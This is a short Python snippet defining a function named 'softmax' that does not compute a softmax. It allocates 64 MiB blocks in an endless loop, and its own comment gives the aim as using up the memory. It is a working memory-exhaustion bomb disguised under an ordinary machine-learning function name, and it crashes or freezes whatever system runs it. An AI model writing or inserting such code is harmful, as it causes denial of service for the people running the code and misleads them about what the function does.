# Aim: use up the memory.
def softmax(z):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))
